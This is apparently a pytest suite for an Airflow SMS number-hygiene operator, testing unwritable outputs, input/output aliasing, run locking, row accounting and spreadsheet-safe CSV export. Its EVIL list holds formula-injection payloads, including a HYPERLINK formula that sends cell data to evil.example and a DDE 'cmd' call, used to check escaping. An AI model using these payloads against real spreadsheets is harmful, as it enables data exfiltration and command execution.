"""Where NumberHygieneOperator writes, in DAG runs (dag.test()) against the sandbox: unwritable
locations, an output that is the input under another name, two runs on one output, rows that
do not add up, and lists safe to open in a spreadsheet. Each test checks the outcome and the
cost (the sandbox ledger): a run that cannot finish is refused before its first paid request.
"""

from __future__ import annotations

import csv
import json
import re
import socket
import subprocess
import sys
import threading
import time
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from tests.support.runs import OPS_DAGS, run_dag, states, use_sandbox, xcom

pytestmark = [pytest.mark.usefixtures("airflow_db"), pytest.mark.once]
RATE = 1000
CASES = OPS_DAGS / "hyg_cases.py"


@pytest.fixture
def fast(sandbox, monkeypatch):
    sandbox.set_rate_limit(RATE)
    use_sandbox(monkeypatch, sandbox, rate_limit=RATE)
    return sandbox


def write_list(path: Path, numbers: list[str], names: list[str] | None = None) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    names = names or [f"N{i}" for i in range(1, len(numbers) + 1)]
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "name", "phone"])
        rows = enumerate(zip(names, numbers, strict=True), start=1)
        writer.writerows([i, name, n] for i, (name, n) in rows)
    return path


def run(source: Path | str, output: Path | str, dag_id: str = "hyg_defaults") -> Any:
    return run_dag(CASES, dag_id, run_conf={"input_path": str(source), "output_path": str(output)})


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def paid(sandbox) -> Counter[str]:
    return Counter(e["number"] for e in sandbox.ledger() if e["billable"])


NUMBERS = [f"+4474001000{i:02d}" for i in range(10, 20)]


# -- an output that cannot be written --------------------------------------------------


@pytest.mark.parametrize(
    ("blocked", "message"),
    [
        ("out", "Cannot write the output files in"),  # the output's folder is a file
        ("out/checked.csv.state", "Cannot write the resume state in"),
    ],
)
def test_an_unwritable_location_fails_before_any_paid_request(
    fast, tmp_path, capfd, blocked: str, message: str
) -> None:
    source = write_list(tmp_path / "list.csv", NUMBERS)
    (tmp_path / blocked).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / blocked).write_text("a file where a folder should be")  # root may write anywhere else

    dr = run(source, tmp_path / "out" / "checked.csv")

    assert states(dr) == {("hygiene", -1): "failed"}
    out = capfd.readouterr().out
    assert message in out
    assert "Nothing was checked or paid for" in out
    assert fast.ledger() == []  # each retry used to pay again up to its first checkpoint


# -- the output is the input under another name ----------------------------------------


@pytest.mark.parametrize("spelling", ["file-uri", "symlink", "relative"])
def test_an_output_naming_the_input_another_way_is_refused(
    fast, tmp_path, capfd, monkeypatch, spelling: str
) -> None:
    source = write_list(tmp_path / "data" / "list.csv", NUMBERS)
    original = source.read_bytes()
    if spelling == "file-uri":
        output: str = f"file://{source}"
    elif spelling == "symlink":
        (tmp_path / "alias").symlink_to(tmp_path / "data")
        output = str(tmp_path / "alias" / "list.csv")
    else:
        monkeypatch.chdir(tmp_path / "data")
        output = "./../data/./list.csv"

    dr = run(source, output)

    assert states(dr) == {("hygiene", -1): "failed"}
    assert f"The output would overwrite the input list {source}" in capfd.readouterr().out
    assert source.read_bytes() == original
    assert fast.ledger() == []


# -- two runs, one output ----------------------------------------------------------------

FIRST_RUN = r"""
import sys
from airflow_provider_sms.hooks.sms_api import SmsApiHook
from airflow_provider_sms.hygiene import HygieneEngine, HygieneOptions

HygieneEngine(SmsApiHook(), HygieneOptions(number_column="phone")).run(
    sys.argv[1], sys.argv[2], owner="the first run"
)
"""


def test_a_second_live_run_on_the_same_output_fails_clearly_and_pays_nothing(
    sandbox, monkeypatch, tmp_path, capfd
) -> None:
    """A zombie and its retry, or max_active_runs > 1: the second run must not corrupt the first's output."""
    sandbox.set_rate_limit(40)
    sandbox.set_latency(100)
    use_sandbox(monkeypatch, sandbox, rate_limit=40)
    numbers = [f"+44740020{i:04d}" for i in range(80)]
    first_list = write_list(tmp_path / "first.csv", numbers)
    second_list = write_list(tmp_path / "second.csv", numbers[:5], names=["second"] * 5)
    output = tmp_path / "out" / "checked.csv"
    first = subprocess.Popen(
        [sys.executable, "-c", FIRST_RUN, str(first_list), str(output)],
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
    )  # fmt: skip
    try:
        deadline = time.monotonic() + 60
        while sum(paid(sandbox).values()) < 10:
            assert first.poll() is None, first.stderr.read().decode()[-2000:] if first.stderr else ""
            assert time.monotonic() < deadline, "the first run paid for nothing in time"
            time.sleep(0.05)

        dr = run(second_list, output)

        assert states(dr) == {("hygiene", -1): "failed"}
        out = capfd.readouterr().out
        assert f"Output {output} is being written by another run (the first run on host" in out
        assert f"pid {first.pid}" in out
        assert first.wait(120) == 0
    finally:
        first.kill()
        first.wait(10)
    rows = read_csv(output)
    assert [r["name"] for r in rows] == [f"N{i}" for i in range(1, 81)]  # the first run's list, whole
    assert paid(sandbox) == {n: 2 for n in numbers}  # the second run paid for nothing
    assert sorted(p.name for p in output.parent.iterdir()) == [
        "checked.clean.csv", "checked.csv", "checked.flagged.csv",
    ]  # no partial file, no state, no claim  # fmt: skip


def claim_from(tmp_path: Path, *, host: str, age_s: float) -> Path:
    claim = tmp_path / "out" / "checked.csv.lock"
    claim.parent.mkdir(parents=True, exist_ok=True)
    owner = {"token": "someone", "host": host, "pid": 1, "owner": "a run on another worker"}
    claim.write_text(json.dumps({**owner, "heartbeat": time.time() - age_s}))
    return claim


def test_a_live_claim_from_another_worker_is_respected(fast, tmp_path, capfd) -> None:
    source = write_list(tmp_path / "list.csv", NUMBERS)
    claim = claim_from(tmp_path, host="worker-7", age_s=0)
    stop = threading.Event()

    def beat() -> None:  # the other worker is alive: its heartbeat goes on
        while not stop.wait(0.5):
            claim_from(tmp_path, host="worker-7", age_s=0)

    beating = threading.Thread(target=beat, daemon=True)
    beating.start()
    try:
        dr = run(source, tmp_path / "out" / "checked.csv")
    finally:
        stop.set()
        beating.join(5)

    assert states(dr) == {("hygiene", -1): "failed"}
    out = capfd.readouterr().out
    assert re.search(r"\(a run on another worker on host worker-7, pid 1, last heartbeat [01] s ago\)", out)
    assert re.search(rf"its claim expires in (59|60) s \(or delete {re.escape(str(claim))}\)", out)
    assert claim.exists()
    assert fast.ledger() == []


@pytest.mark.parametrize(
    "left_by",
    [
        "silent-worker",  # no heartbeat for two minutes: that run is dead, wherever it ran
        "killed-here",  # a fresh claim, but of a process of this host that no longer runs (SIGKILLed)
    ],
)
def test_a_claim_left_by_a_dead_run_is_taken_over(fast, tmp_path, capfd, left_by: str) -> None:
    source = write_list(tmp_path / "list.csv", NUMBERS)
    if left_by == "silent-worker":
        claim_from(tmp_path, host="worker-7", age_s=120)
    else:
        claim = claim_from(tmp_path, host=socket.gethostname(), age_s=5)
        dead = subprocess.Popen([sys.executable, "-c", "pass"])
        dead.wait()
        claim.write_text(json.dumps({**json.loads(claim.read_text()), "pid": dead.pid}))

    dr = run(source, tmp_path / "out" / "checked.csv")

    assert states(dr) == {("hygiene", -1): "success"}
    assert "took over" in capfd.readouterr().out
    assert xcom(dr, "hygiene")["rows"] == len(NUMBERS)
    assert not (tmp_path / "out" / "checked.csv.lock").exists()
    assert paid(fast) == {n: 2 for n in NUMBERS}


# -- rows that do not add up ---------------------------------------------------------------


def test_a_list_that_changes_during_the_run_fails_the_accounting_and_publishes_nothing(
    fast, tmp_path, capfd
) -> None:
    """The export job rewrote the list mid-run: the rows checked are not the rows counted."""
    fast.set_latency(50)
    numbers = [f"+44740030{i:04d}" for i in range(600)]
    source = write_list(tmp_path / "list.csv", numbers)
    extra = [f"+44740040{i:04d}" for i in range(50)]

    def grow_the_list_once_paying_starts() -> None:
        while not fast.ledger():
            time.sleep(0.005)
        with source.open("a", encoding="utf-8", newline="") as handle:
            csv.writer(handle).writerows([f"x{i}", "late", n] for i, n in enumerate(extra))

    grower = threading.Thread(target=grow_the_list_once_paying_starts, daemon=True)
    grower.start()
    dr = run(source, tmp_path / "out" / "checked.csv")
    grower.join(10)

    assert states(dr) == {("hygiene", -1): "failed"}
    out = capfd.readouterr().out
    assert "do not add up, so nothing is published: the counting pass read 600 data rows" in out
    assert not (tmp_path / "out" / "checked.csv").exists()
    first = paid(fast)

    dr = run(source, tmp_path / "out" / "checked.csv")  # the list as it is now: 650 rows

    assert xcom(dr, "hygiene")["rows"] == 650
    assert paid(fast) == first  # every answer of the failed run was kept: nothing paid again
    assert set(first) == set(numbers) | set(extra)


# -- spreadsheet-safe lists ----------------------------------------------------------------

EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\tindented",
    "+plus",
    "plain",
]


def test_clean_and_flagged_lists_are_safe_to_open_in_a_spreadsheet(fast, tmp_path) -> None:
    numbers = ["+447400100001", "+447400100066", "call me", "+447400100002", "+447400100003", "+447400100004"]
    source = write_list(tmp_path / "list.csv", numbers, names=EVIL)
    output = tmp_path / "out" / "checked.csv"

    run(source, output)

    clean = read_csv(tmp_path / "out" / "checked.clean.csv")
    flagged = read_csv(tmp_path / "out" / "checked.flagged.csv")
    assert [(r["name"], r["phone"], r["e164"]) for r in clean] == [
        ("'" + EVIL[0], "'+447400100001", "+447400100001"),  # the provider's own e164 is never touched
        ("'\tindented", "'+447400100002", "+447400100002"),
        ("'+plus", "'+447400100003", "+447400100003"),
        ("plain", "'+447400100004", "+447400100004"),
    ]
    assert [(r["name"], r["verdict"]) for r in flagged] == [
        ("'" + EVIL[1], "FRAUDULENT"), ("'@SUM(1+1)", "INVALID"),
    ]  # fmt: skip
    full = read_csv(output)
    assert [r["name"] for r in full] == EVIL  # the machine-readable record keeps every value
    assert [r["phone"] for r in full] == numbers
    assert paid(fast) == {n: 2 for n in numbers if n.startswith("+")}


def test_lists_for_programs_keep_the_original_values(fast, tmp_path) -> None:
    source = write_list(tmp_path / "list.csv", ["+447400100001", "+447400100066"], names=EVIL[:2])

    run(source, tmp_path / "out" / "checked.csv", dag_id="hyg_for_programs")

    assert [(r["name"], r["phone"]) for r in read_csv(tmp_path / "out" / "checked.clean.csv")] == [
        (EVIL[0], "+447400100001"),
    ]
    assert [r["name"] for r in read_csv(tmp_path / "out" / "checked.flagged.csv")] == [EVIL[1]]
